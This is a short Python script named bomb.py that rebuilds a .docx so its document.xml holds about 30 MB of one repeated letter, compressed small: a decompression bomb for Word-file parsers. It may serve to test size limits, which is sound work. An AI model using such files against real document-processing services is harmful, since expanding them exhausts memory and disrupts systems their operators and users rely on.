# bomb.py IN OUT: copies a .docx whose document.xml grows to 30 MB, one
# paragraph of the same letter over and over, which deflate packs small.
import sys, zipfile
src, dst = sys.argv[1:3]
body = (b'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>'
        + b"a" * (30 << 20) + b"</w:t></w:r></w:p></w:body></w:document>")
with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zout:
    for item in zin.infolist():
        data = body if item.filename == "word/document.xml" else zin.read(item.filename)
        zout.writestr(item.filename, data)
